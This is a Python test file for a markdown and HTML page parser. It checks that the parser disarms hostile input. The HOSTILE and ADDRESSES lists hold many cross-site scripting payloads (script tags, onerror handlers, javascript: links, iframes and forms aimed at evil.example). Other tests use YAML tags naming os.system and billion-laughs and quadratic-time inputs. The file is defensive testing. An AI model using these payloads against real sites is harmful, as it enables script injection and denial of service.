"""Attacks on the parser (THREATS 12–20, 24, 27, as far as one page goes): nothing runs, nothing is forged, nothing takes long."""

import re
import time
from collections.abc import Callable
from html.parser import HTMLParser

import pytest

from indexer.analysis.anchors import find_fragment
from indexer.model.page import ParsedPage
from indexer.parse.budget import OverBudgetError, time_budget
from indexer.parse.clean import balance_html, clean_html
from indexer.parse.front_block import begins_with_key
from indexer.parse.page import parse_page, parse_plain
from indexer.parse.slots import SLOT
from tests.tools.harmless import check_page

SECONDS = 10.0
"""What a page of this file may take at most on a slow and busy machine; a quadratic rule takes minutes."""


def read(text: str) -> ParsedPage:
    """Parse a page and check what must hold for every page."""
    page = parse_page(text.encode())
    check_page(page)
    return page


class _Elements(HTMLParser):
    """What a browser would see of a page's HTML."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.values: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.values += [value or "" for _, value in attrs]


def codes(page: ParsedPage) -> list[str]:
    """Return the codes of the page's findings."""
    return [finding.code for finding in page.findings]


def measure(text: str) -> tuple[ParsedPage, float]:
    """Parse a page; return it and the processor time."""
    began = time.process_time()
    page = parse_page(text.encode())
    return page, time.process_time() - began


@pytest.mark.threat(12)
@pytest.mark.req("P03")
@pytest.mark.parametrize(
    "tag", ["!!python/object/apply:os.system", "!!python/name:os.system", "!!python/object/new:os.system", "!local", "!!binary"]
)
def test_yaml_tags_are_words_and_cost_a_finding(tag: str) -> None:
    page = read(f"---\ntitle: ok\nrun: {tag} x\n---\nbody")
    assert page.title == "ok"
    assert page.meta["run"] == "x"
    assert codes(page) == ["FMT008"]


@pytest.mark.threat(13)
def test_a_billion_laughs_is_refused_at_its_first_anchor() -> None:
    levels = "\n".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 10))
    page, seconds = measure(f"---\na0: &a0 lol\n{levels}\n---\nbody")
    assert codes(page) == ["FMT008"]
    assert page.meta == {}
    assert "body" in page.html
    assert seconds < 1


@pytest.mark.threat(13)
@pytest.mark.parametrize(
    ("block", "mark"),
    [
        ("a: " + "[" * 30_000, "---"),
        ("a: " + "{a: " * 10_000, "---"),
        ("- " * 20_000 + "a", "---"),
        ("a: [" + "1, " * 20_000 + "1]", "---"),
        ("a: " + "x" * 100_000, "---"),
        ("a = " + "[" * 400 + "]" * 400, "+++"),
        ("a = " + "{a=" * 200 + "1" + "}" * 200, "+++"),
        ("a = " + "9" * 5000, "+++"),
        ("a = 0x" + "f" * 9000, "+++"),
        ("a = " + "1" * 100_000, "+++"),
    ],
    ids=lambda value: value[:12] if len(value) > 3 else value,
)
def test_frontmatter_that_explodes_costs_a_finding(block: str, mark: str) -> None:
    page, seconds = measure(f"{mark}\n{block}\n{mark}\nbody")
    assert "FMT004" in codes(page)
    assert page.meta == {}
    assert "body" in page.html
    assert seconds < 5


@pytest.mark.threat(13)
def test_odd_numbers_and_dates_stay_what_was_written() -> None:
    page = read(f"---\na: .inf\nb: {'9' * 5000}\nc: 2024-13-45\nd: 1e999\ne: 0o17\n__proto__: x\nconstructor: y\n---\n")
    assert page.meta == {"a": ".inf", "b": "9" * 5000, "c": "2024-13-45", "d": "1e999", "e": "0o17", "__proto__": "x", "constructor": "y"}
    assert codes(page) == []


N = 6_000
COSTLY: dict[str, Callable[[int], str]] = {
    # cmark's pathological cases
    "nested strong emphasis": lambda n: "*a **a " * (n // 4) + "b" + " a** a*" * (n // 4),
    "closers of emphasis": lambda n: "a_ " * n,
    "openers of emphasis": lambda n: "_a " * n,
    "closers of links": lambda n: "a]" * n,
    "openers of links": lambda n: "[a" * n,
    "openers and closers that do not match": lambda n: "*a_ " * n,
    "openers and closers of three": lambda n: "a**b" + "c* " * n,
    "openers of links, closers of emphasis": lambda n: "[ a_" * n,
    "openers of links and addresses": lambda n: "[ (](" * n,
    "brackets in brackets": lambda n: "[" * n + "a" + "]" * n,
    "quotes in quotes": lambda n: "> " * n + "a",
    "emphasis in quotes": lambda n: ">" * n + "a*" * n,
    "lists in lists": lambda n: "".join("  " * depth + "* a\n" for depth in range(min(n, 1000))),
    "lists on one line": lambda n: "- " * n + "x",
    "empty lines in lists": lambda n: "- " * n + "x" + "\n" * n,
    "backticks": lambda n: "".join("e" + "`" * count for count in range(n // 4)),
    "links never closed": lambda n: "[a](<b" * n,
    "links never closed, bare": lambda n: "[a](b" * n,
    "comments never closed": lambda n: "x " + "<!--" * n,
    "comments never closed, as blocks": lambda n: "<!--" * n,
    "comments on one line": lambda n: "%%" * n * 10,
    "comments on one line, odd": lambda n: "x " + "%% " * (n * 10 + 1),
    "comments on lines": lambda n: "%%\n" * n * 4,
    "comments on lines, odd": lambda n: "%%\n" * (n * 4 + 1),
    "comments over paragraphs": lambda n: "a %%\n\n" * n * 2,
    "comments over paragraphs, odd": lambda n: "a %%\n\n" * (n * 2 + 1),
    "comments over paragraphs, with others": lambda n: "a %% b %% c %%\n\n" * (n // 3),
    "comments over paragraphs, with others and code": lambda n: "- a %% b %% `c` %%\n\n" * (n // 6),
    "comments over paragraphs, HTML": lambda n: "a <!-- b\n\nc --> d\n\n" * n,
    "comments over paragraphs, HTML, never closed": lambda n: "a <!-- b\n\n" * n,
    "comments over code": lambda n: "%%\n```\n" * n,
    "comments over cells": lambda n: "|a|b|\n|-|-|\n" + "|a %%|b|%%\n" * (n // 3),
    "comments in a block of HTML": lambda n: "<div>\n" + "%% a\n" * n * 4,
    "comments over blocks of HTML": lambda n: "<div>\n<!-- b\n\n" * n,
    "many definitions": lambda n: "".join(f"[{number}]: u\n" for number in range(n)) + "[0] " * n,
    # this parser's own syntax
    "brackets": lambda n: "[" * n * 10,
    "images": lambda n: "![a" * n,
    "wikilinks never closed": lambda n: "[[a" * n,
    "wikilinks with brackets": lambda n: "[[a]" * n,
    "notes never closed": lambda n: "[^a]: x\n\n" + "[^a" * n,
    "notes in the text": lambda n: "^[" * n,
    "highlights": lambda n: "==a`" * n,
    "dollars": lambda n: "$a " * n,
    "tags": lambda n: "".join(f"#t{number} " for number in range(n)),
    "block ids": lambda n: "".join(f"- p ^b{number}\n" for number in range(n)),
    "links in one paragraph": lambda n: "[a](b)\n" * n,
    "addresses": lambda n: "http://a.b " * n,
    "wide table": lambda n: "|a|b|\n|-|-|\n|" + "[[x\\|y]] " * n + "|b|\n",
    "long table": lambda n: "|a|b|\n|-|-|\n" + "|[[x\\|y]]|b|\n" * n,
    "columns": lambda n: "|" + "a|" * n + "\n|" + "-|" * n + "\n" + "|b\n" * 100,
    "attributes never closed": lambda n: '<a "' * n,
    "attributes never closed, in a block": lambda n: "<div>\n" + '<a "' * n,
    "ids": lambda n: "<div>" + '<b id="x">\n' * n,
    "headings": lambda n: "# a\n" * n,
    "white space": lambda n: "# a" + " " * n * 10 + "b {" + " " * n,
    "same ids": lambda n: "# a {#b}\n" * n,
}


@pytest.mark.threat(14)
@pytest.mark.req("P13")
@pytest.mark.parametrize("name", COSTLY)
def test_costly_markdown_is_read_as_markdown_in_time(name: str) -> None:
    page, seconds = measure(COSTLY[name](N))
    assert "MDN001" not in codes(page)
    assert seconds < SECONDS
    check_page(page)


@pytest.mark.threat(14)
def test_a_large_page_takes_time_in_proportion() -> None:
    part = "# Title\n\nSome *words* with a [link](a.md), a [[wiki|link]], `code`, #tag and https://example.org/x.\n\n- a ^b\n- [ ] c\n\n"
    _, small = measure(part * 200)
    page, large = measure(part * 2000)
    assert len(page.links) == 6_000
    assert large < 40 * max(small, 0.05), "ten times the text may take ten times as long, generously measured"


@pytest.mark.threat(14)
def test_a_page_over_its_budget_becomes_plain_text(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("indexer.parse.page.time_budget", lambda: time_budget(0.01))
    page = parse_page(b"---\ntitle: T\ndraft: true\n---\n" + b"*a <b> [x](y) " * 20_000)
    assert codes(page) == ["MDN001"]
    assert (page.title, page.hidden) == ("T", True)
    assert page.html.startswith("<pre>*a &lt;b&gt; [x](y)")
    assert page.links == ()


@pytest.mark.threat(2)
@pytest.mark.req("P04", "X01")
def test_a_page_that_is_shown_as_plain_text_is_shown_without_its_comments() -> None:
    written = b"---\na: 1 %% 2\n---\nb %% secret\n\nsecret %% c <!-- secret\n\nsecret --> d\n\n%% secret\n\nsecret\n"
    page = parse_plain(written, "no reason")
    assert page.html == "<pre>b \n\n c \n\n d</pre>\n"
    assert page.text == "---\na: 1 %% 2\n---\nb \n\n c \n\n d\n\n\n\n\n"


@pytest.mark.threat(14)
def test_a_budget_that_was_swallowed_on_its_way_still_counts() -> None:
    def run() -> None:
        with time_budget(0.01):
            try:
                while True:
                    pass
            except OverBudgetError:
                pass

    with pytest.raises(OverBudgetError):
        run()


@pytest.mark.threat(15)
@pytest.mark.parametrize(
    "written",
    [
        "> " * 10_000 + "a",
        "- " * 10_000 + "a",
        "[[" * 10_000,
        "[" * 200_000,
        "*a_" * 100_000,
        "![" * 50_000,
        "<b>" * 20_000,
        "<div>\n" * 20_000,
        "(" * 99_999,
    ],
)
def test_deep_nesting_never_exhausts_the_stack(written: str) -> None:
    page, seconds = measure(written)
    assert "IDX002" not in codes(page)
    assert seconds < SECONDS


@pytest.mark.threat(16)
@pytest.mark.parametrize(
    ("written", "expected", "code"),
    [
        (b"caf\xe9 [[a]]", "caf� ⟦o0⟧a⟦c0⟧", "FMT001"),
        (b"a\x00b", "a�b", "FMT003"),
        ("a\ufdd0b\ufdefc".encode(), "a�b�c", "FMT003"),
        (b"\xed\xa0\x80", "���", "FMT001"),
        ("hi [[a]]".encode("utf-16"), "hi ⟦o0⟧a⟦c0⟧", "FMT002"),
        (b"\xff\xfe\x00\xd8a\x00", "�a", "FMT002"),
    ],
)
def test_broken_encodings_are_repaired_and_reported(written: bytes, expected: str, code: str) -> None:
    page = parse_page(written)
    assert page.html.replace("\ufdd0", "⟦").replace("\ufdd1", "⟧") == f"<p>{expected}</p>\n"
    assert codes(page) == [code]


@pytest.mark.threat(16)
def test_mixed_line_ends_count_as_one_line_each() -> None:
    page = parse_page(b"\xef\xbb\xbf---\r\ntitle: T\r\n---\r\n[[a]]\r\r[[b]]\n[[c]]")
    assert page.title == "T"
    assert [link.line for link in page.links] == [4, 6, 7]


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "a <script>alert(1)</script> b",
    "<scr<script></script>ipt>alert(1)</script>",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<form action=//evil.example><input name=password><button formaction=javascript:x>go</button></form>",
    "<base href=//evil.example/>",
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    "<style>@import '//evil.example';</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><foreignObject><iframe src=x></foreignObject></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' srcset='//evil.example/x 2x' onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<p onclick=alert(1) onmouseover='alert(1)' style='background:url(//evil.example)'>x</p>",
    "<p/onclick=alert(1)/x>a</p>",
    "<details open ontoggle=alert(1)>x</details>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<video src=//evil.example autoplay onplay=alert(1)></video>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><script>alert(1)</script></xmp>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<?x ><script>alert(1)</script>?>",
    "<a href='javascript:alert(1)' ping=//evil.example target=_blank>x</a>",
    "<button autofocus onfocus=alert(1)>x</button>",
    "<custom-element is=x onclick=alert(1)>x</custom-element>",
    '<p title="\n\n[a](<https://e.example/ onmouseover=alert(1) x=> "t")\n\n">',
    '<p title=x" title=" >\n\n![a](b.png " onerror=alert(1) ")\n\n">',
    "# <img src=x onerror=alert(1)>",
    "[<img src=x onerror=alert(1)>](x.md)",
    '![" onerror="alert(1)](x.png)',
    "[[x|<img src=x onerror=alert(1)>]]",
    "> [!note] <script>alert(1)</script>\n> x",
    '> [!note" onclick="x]\n> y',
    '```"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```',
    "| <script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "x[^<script>]\n\n[^<script>]: <script>alert(1)</script>",
    "#<script>",
    "$</span><script>alert(1)</script>$",
]


@pytest.mark.threat(17)
@pytest.mark.threat(24)
@pytest.mark.parametrize("written", HOSTILE)
def test_html_that_acts_is_gone(written: str) -> None:
    page = parse_page(written.encode())
    reader = _Elements()
    reader.feed(page.html)
    reader.close()
    assert not reader.tags & set(
        "script style iframe form base meta link svg math object embed video img template noscript body button".split()
    )
    assert not {
        name for name in reader.attributes if name.startswith("on") or name in {"style", "src", "srcset", "ping", "target", "action"}
    }
    assert not SLOT.search("".join(reader.values))


@pytest.mark.threat(17)
def test_what_stands_around_hostile_html_is_kept() -> None:
    page = read('before\n\n<script>x</script>\n\n<div title="\n\n# Part\n\n[a](b.md) after')
    assert "before" in page.html
    assert "after" in page.html
    assert find_fragment("Part", page.facts(), by_text=True) == "part"
    assert ("MDN004", 3) in [(finding.code, finding.line) for finding in page.findings]


ADDRESSES = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x]\n\n[x]: javascript:alert(1)",
    "[[javascript:alert(1)]]",
    "![[data:text/html,x]]",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#x6A;avascript&#58;alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<img src='javascript:alert(1)'>",
    "<a href=javascript:alert(1) x'y>z</a>",
    '<a x="\'" href=\'javascript:alert(1)">z</a>',
]


@pytest.mark.threat(18)
@pytest.mark.parametrize("written", ADDRESSES)
def test_no_address_of_a_page_is_in_its_html(written: str) -> None:
    page = read(written)
    assert not re.search(r"(?:href|src)\s*=", re.sub(r"&[lg]t;.*", "", page.html))


@pytest.mark.threat(19)
def test_svg_in_a_page_is_gone_and_as_an_image_it_is_a_slot() -> None:
    page = read("<svg>\n<script>x</script>\n</svg>\n\n![a](b.svg) ![[c.svg]]")
    assert page.html.replace("\ufdd0", "⟦").replace("\ufdd1", "⟧").strip() == "<p>⟦i0⟧ ⟦i1⟧</p>"
    assert codes(page) == ["MDN004"]


@pytest.mark.threat(20)
def test_diagrams_and_mathematics_stay_text() -> None:
    page = parse_page(
        b"```mermaid\n%%{init: {'securityLevel': 'loose'}}%%\ngraph TD; A[<img src=x onerror=alert(1)>]\nclick A call alert(1)\n```\n\n"
        b"$\\href{javascript:alert(1)}{x} \\htmlData{a=<b>}{y}$\n\n$$\n</div><script>alert(1)</script>\n$$\n"
    )
    assert re.findall(r"<[^>]*>", page.html) == [
        '<pre class="brain-mermaid" tabindex="0">',
        "</pre>",
        "<p>",
        '<span class="brain-math">',
        "</span>",
        "</p>",
        '<div class="brain-math">',
        "</div>",
    ]
    assert "%%{init" in page.html


@pytest.mark.threat(27)
@pytest.mark.parametrize("name", ["__search", "__drawer", "__proto__", "__nav_1", "brain-data", "__fn-1"])
def test_ids_of_the_frame_cannot_be_taken(name: str) -> None:
    tags = (
        f"<p id={name}>a</p>",
        f"<p id={name} x'y>b</p>",
        f"<a name={name}></a>",
        f'<p id={name} x="\'">c</p>',
        f'<b id={name} x="y\'z">d</b>',
    )
    page = read("\n\n".join((f"# `{name}`", *tags)))
    assert f'id="{name}"' not in page.html
    assert page.headings[0].id == f"h-{name}"


@pytest.mark.threat(27)
def test_names_of_objects_are_plain_ids_and_keys() -> None:
    page = read("# constructor\n\n# toString\n\n#constructor #__proto__/x ^constructor")
    assert [heading.id for heading in page.headings] == ["constructor", "tostring"]
    assert page.block_ids == ("constructor",)


@pytest.mark.threat(27)
def test_classes_of_the_frame_cannot_be_taken() -> None:
    page = read('<div class="md-header brain-dead md-search__overlay admonition">a</div>')
    assert page.html.strip() == '<div class="admonition">a</div>'


@pytest.mark.threat(17)
@pytest.mark.parametrize(
    "written",
    [
        "\ufdd0o0\ufdd1",
        "&#xFDD0;o0&#xFDD1;",
        "<p>&#xfdd0o0&#xfdd1</p>",
        "<p>&#x000FDD0;o0&#64977;</p>",
        "<p>&#xFD<!-- -->D0;e9&#xFDD1;</p>",
        "`\ufdd0p0\ufdd1`",
        "<p title='&#xFDD0;p9&#xFDD1;'>x</p>",
        "[x](&#xFDD0;o0&#xFDD1;)",
        "<p>&#xFDD2;x</p>",
    ],
)
def test_slots_cannot_be_forged(written: str) -> None:
    page = read(f"{written}\n")
    assert len(SLOT.findall(page.html)) == 2 * len(page.links)


@pytest.mark.threat(17)
def test_only_own_ids_and_fragments_pass_the_sanitiser() -> None:
    assert clean_html('<p id="x">a</p><a href="#x">b</a><a href="https://e.example">c</a>') == "<p>a</p><a>b</a><a>c</a>"
    assert (
        clean_html('<p id="\ufdd2x">a</p><a href="\ufdd2#x">b</a><p title="\ufdd0o0\ufdd1">c</p>')
        == '<p id="x">a</p><a href="#x">b</a><p>c</p>'
    )


@pytest.mark.threat(27)
def test_an_embedded_part_loses_its_ids_and_no_words() -> None:
    assert balance_html('<p id="a">say id="b" <a href="#c">d</a>') == '<p>say id="b" <a href="#c">d</a></p>'


@pytest.mark.threat(14)
@pytest.mark.req("P03")
def test_a_rule_before_a_million_comments_is_looked_at_once() -> None:
    began = time.process_time()
    assert not begins_with_key("#\n" * 1_000_000)
    assert begins_with_key("#\n" * 1_000_000 + "title: x")
    assert time.process_time() - began < SECONDS  # 1 s here; looking ahead from each line took over a minute
